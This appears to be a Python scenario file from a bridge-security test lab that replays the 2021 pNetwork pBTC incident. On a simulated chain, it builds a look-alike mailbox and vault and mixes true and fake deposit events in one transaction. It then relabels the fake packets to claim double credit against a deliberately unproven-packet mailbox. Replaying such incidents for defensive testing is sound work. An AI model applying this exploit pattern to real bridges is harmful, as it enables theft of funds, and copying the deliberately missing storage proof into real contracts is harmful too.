"""pNetwork: of many logs in one transaction, those of other contracts were taken too."""

from __future__ import annotations

from dataclasses import replace

from bridge.mailbox import Mailbox
from bridge.relaying import deliver, packets_in, prove_commitments, update_client
from clearspan.lab.scenarios.banking import DEPOSIT, FOREVER, another_vault, claim_of_deposit, odd_token, vault_of
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.lookalike import look_alike_mailbox
from clearspan.lab.scenarios.moves import LOOT, Heist


def attack(stage: Stage) -> Verdict:
    """One transaction with a true deposit inside one at a look-alike vault; all its packets are delivered."""
    with stage.world() as world:
        heist = Heist(world)
        source, thief = heist.source, heist.thief
        token = odd_token(heist, "FickleToken", (thief.address,))
        false_mailbox = look_alike_mailbox(stage, heist)
        false_vault = another_vault(stage, heist, token.address, mailbox=false_mailbox.address)
        dollars = source.contract("TestToken", heist.token)
        functions = token.functions
        source.transact(functions.approve(false_vault.address, FOREVER), thief)
        source.transact(dollars.functions.transfer(token.address, LOOT), thief)
        # While it moves, the token lets the true vault take its dollars, and the next time deposits them there.
        approve = dollars.encode_abi("approve", [heist.entry.vault, FOREVER])
        source.transact(functions.callOnce(heist.token, bytes.fromhex(approve[2:])), thief)
        source.transact(functions.transfer(thief.address, 1), thief)
        inner = vault_of(heist).encode_abi(DEPOSIT, [heist.token, LOOT, thief.address, 0])
        source.transact(functions.callOnce(heist.entry.vault, bytes.fromhex(inner[2:])), thief)
        outer = false_vault.get_function_by_signature(DEPOSIT)(token.address, LOOT, thief.address, 0)
        receipt = source.transact(outer, thief, gas=3_000_000)
        true = packets_in(heist.way.source, receipt)
        false = packets_in(Mailbox(source, false_mailbox.address), receipt)
        heist.settle()
        update_client(heist.way.forward, source, thief)
        for packet in true:
            deliver(heist.way, [packet], thief)
        proof = prove_commitments(heist.way, true)
        renamed = [
            replace(
                packet,
                source_mailbox=heist.entry.mailbox,
                sender=heist.entry.vault,
                payload=claim_of_deposit(heist, amount=2 * LOOT),
            )
            for packet in false
        ]
        outcomes = [heist.hand_over(one, proof) for one in (*false, *renamed)]
        return Verdict(
            survived=(len(true), len(false), heist.loot) == (1, 1, LOOT),
            detail=f"{len(true)} true and {len(false)} look-alike packets in one transaction; the latter: "
            f"{', '.join(outcomes)}; {LOOT} base units deposited, {heist.loot} credited",
        )


SCENARIO = Scenario(
    identifier="incident-35",
    title="One true and one look-alike event in the same transaction",
    group="C5",
    source="pNetwork pBTC, 19 Sep 2021, 277 BTC",
    attack=attack,
    twin=Twin(
        mutation="an event is enough: the mailbox asks for no proof of storage",
        contracts=(("Mailbox", "mailbox-unproven-packet"),),
    ),
)
